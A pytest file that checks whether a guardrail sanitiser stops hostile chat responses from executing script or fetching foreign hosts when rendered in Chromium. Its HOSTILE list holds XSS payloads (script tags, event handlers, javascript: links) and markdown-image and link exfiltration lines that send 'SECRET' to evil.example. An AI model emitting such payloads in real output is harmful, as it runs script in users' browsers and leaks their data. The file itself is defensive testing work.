"""The cleaned text of hostile responses, rendered as a chat UI renders it (markdown-it-py:
CommonMark + linkify + raw HTML, no Content-Security-Policy), executes nothing in Chromium:
no dialog, no script-set window flag, no request to a host that is not allowed. The same
harness run on the original text does all of these, so the test can fail."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from analyzers.engine.guardrails.settings import GuardrailSettings
from analyzers.engine.guardrails.stream import audit_text
from tests.analyzers.engine.rendering import render

ALLOWED = ("acme.example", "www.acme.example")
SETTINGS = GuardrailSettings.build(allowed_hosts=ALLOWED)
CHAT = "http://chat.test/"

HOSTILE = [
    "Hi <script>window.pwned = 1; alert(1)</script> there.",
    'Look: <img src=https://evil.example/p.png onerror="window.pwned = 1; alert(2)">',
    '<svg onload="window.pwned = 1"><circle r=1></circle></svg> shapes',
    '<iframe src="https://evil.example/frame"></iframe> embedded',
    '<meta http-equiv=refresh content="0;url=https://evil.example/r"> moved',
    "<style>body { background: url(https://evil.example/bg.png) }</style> styled",
    '<div style="background:url(https://evil.example/div.png)">box</div>',
    "![http://evil.example/p.png?d=SECRET](http://evil.example/p.png?d=SECRET)",
    "![logo](https://evil.example/logo.png?d=SECRET) and [docs](javascript:window.pwned=1)",
    "Details: https://evil.example/x?d=SECRET and www.evil.example/y",
    '<a href="https://evil.example/\tpath">docs</a> with a tab',
    "<video poster=https://evil.example/poster.png></video>",
    '<img srcset="https://evil.example/a.png 2x, https://evil.example/b.png 1x">',
    '<object data="https://evil.example/o.swf"></object><embed src=https://evil.example/e>',
    '<details open ontoggle="window.pwned = 1">x</details>',
    "Fine: [acme docs](https://acme.example/docs) and https://www.acme.example/guide",
]


def _run(page, html: str) -> tuple[list[str], list[str], object]:
    """Load `html` as a chat page; the requests made, dialogs shown and window.pwned."""
    requests: list[str] = []
    dialogs: list[str] = []

    def route(r):
        requests.append(r.request.url)
        if r.request.url == CHAT:
            r.fulfill(status=200, content_type="text/html", body=html)
        else:
            r.fulfill(status=204, body="")  # answer locally: nothing leaves this machine

    page.route("**/*", route)
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(CHAT)
    page.wait_for_timeout(400)
    pwned = page.evaluate("() => window.pwned")
    return [u for u in requests if u != CHAT], dialogs, pwned


def _page_of(texts: list[str]) -> str:
    body = "".join(f"<article>{render(text)}</article>" for text in texts)
    return f"<!doctype html><html><head><meta charset=utf-8></head><body>{body}</body></html>"


@pytest.fixture
def chat_page(browser):
    context = browser.new_context()
    yield context.new_page()
    context.close()


def test_the_original_hostile_text_does_run_in_the_harness(chat_page):
    requests, dialogs, pwned = _run(chat_page, _page_of(HOSTILE))
    assert dialogs and pwned == 1
    assert any(urlsplit(u).hostname == "evil.example" for u in requests)


def test_the_cleaned_hostile_text_executes_nothing_and_fetches_no_foreign_host(chat_page):
    cleaned = [audit_text(text, SETTINGS).cleaned_response for text in HOSTILE]
    requests, dialogs, pwned = _run(chat_page, _page_of(cleaned))
    assert dialogs == [] and pwned is None
    assert [u for u in requests if urlsplit(u).hostname not in ALLOWED] == []
    links = chat_page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
    assert links and all(urlsplit(href).hostname in ALLOWED for href in links), links
